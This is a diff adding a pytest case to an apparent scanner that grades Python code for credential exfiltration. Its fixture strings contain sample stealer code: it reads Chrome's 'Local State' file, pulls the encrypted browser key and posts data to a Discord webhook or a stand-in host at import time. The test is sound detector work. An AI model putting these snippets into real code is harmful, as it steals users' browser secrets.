@@ -329,3 +329,31 @@ def test_cloud_keys_carried_to_a_foreign_host_through_attributes() -> None:
         "    requests.post('https://x.example.net/c', data=k)\n"
     )
     assert "PV-EXF-CREDENTIAL" in ids(run(R, subscript))
+
+
+def test_a_browser_profile_and_plain_http_in_a_function_are_high_not_critical() -> None:
+    tool = (
+        "import os, shutil, httpx\n"
+        "def copy_profile(dst):\n"
+        "    src = os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data\\Local State')\n"
+        "    shutil.copy(src, dst)\n"
+        "def fetch(url):\n"
+        "    return httpx.get(url)\n"
+    )
+
+    def combo(source: str, path: str = "acme/browser.py", stage: Stage = Stage.RUNTIME) -> list[Severity]:
+        return [f.severity for f in run(ALL, py(source, path=path, stage=stage)) if f.rule == "PV-EXF-COMBO"]
+
+    assert combo(tool) == [Severity.HIGH]
+    hooked = tool.replace("httpx.get(url)", "httpx.post('https://discord.com/api/webhooks/1/x', data=url)")
+    assert combo(hooked) == [Severity.CRITICAL]
+    decrypting = tool.replace(
+        "shutil.copy(src, dst)", "key = json.load(open(src))['os_crypt']['encrypted_key']"
+    )
+    assert combo(decrypting) == [Severity.CRITICAL]
+    loaded = (
+        "import os, httpx\n"
+        "src = os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data\\Local State')\n"
+        "httpx.post('https://sync.example/', content=open(src, 'rb').read())\n"
+    )
+    assert combo(loaded, "acme/__init__.py", Stage.IMPORT) == [Severity.CRITICAL]
